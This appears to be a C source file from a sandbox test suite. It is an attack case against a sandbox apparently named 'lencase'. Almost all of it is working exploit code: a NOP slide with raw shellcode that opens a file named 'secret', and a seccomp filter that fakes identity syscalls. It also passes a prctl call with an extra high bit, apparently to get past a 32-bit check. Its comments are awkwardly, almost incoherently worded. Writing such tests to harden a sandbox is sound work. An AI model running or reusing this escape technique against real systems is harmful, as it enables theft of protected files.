/*
** filter.c - a filter that answers lencase's own calls
**
** Loaded by a prctl(2) that the kernel takes for PR_SET_SECCOMP, since it looks at 32 bits of it.
** The call that fetches the window's descriptor is answered with 0, which is a file of ours: what
** lencase has executed in a new program's name is in that file then.
*/

#include "attack.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>

/* From the place on where the set-up begins, and before: a slide. */
static const unsigned char code[] = {
    0x48, 0x8d, 0x35, 0x18, 0,    0,    0,    /* lea 24(%rip), %rsi */
    0x48, 0xc7, 0xc7, 0x9c, 0xff, 0xff, 0xff, /* mov $-100, %rdi */
    0x31, 0xd2, 0x4d, 0x31, 0xd2,             /* xor %edx, %edx; xor %r10, %r10 */
    0xb8, 0x01, 0x01, 0,    0,                /* mov $257, %eax */
    0x0f, 0x05, 0x0f, 0x0b, 0x90, 0x90, 0x90, /* syscall: openat; ud2 */
    's',  'e',  'c',  'r',  'e',  't',  0,
};

static void write_code(void) {
  unsigned char page[4096];
  int fd = open("stub", O_RDWR | O_CREAT | O_TRUNC, 0700);
  memset(page, 0x90, sizeof page);
  memcpy(page + sizeof page - sizeof code, code, sizeof code);
  if (fd < 0 || write(fd, page, sizeof page) != sizeof page) fails("stub");
  close(fd);
}

static void load_filter(void) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getpgrp, 5, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 4, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getegid, 3, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getgid, 2, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_geteuid, 1, 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
  };
  struct sock_fprog p = {sizeof f / sizeof *f, f};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) fails("PR_SET_NO_NEW_PRIVS");
  if (syscall(SYS_prctl, PR_SET_SECCOMP | 1UL << 32, SECCOMP_MODE_FILTER, &p) != 0)
    fails("PR_SET_SECCOMP");
}

int main(int argc, char *argv[]) {
  int tries = argc > 1 ? atoi(argv[1]) : 1, fd;
  if (tries == 0 && has_secret()) won("by the set-up of a new program", 1);
  if (tries == 0) lost(1);
  write_code();
  load_filter();
  fd = open("stub", O_RDONLY);
  if (fd < 0 || dup2(fd, 0) != 0) fails("stub");
  fflush(stdout);
  execl("/proc/self/exe", "filter", "0", NULL);
  fails("exec");
}
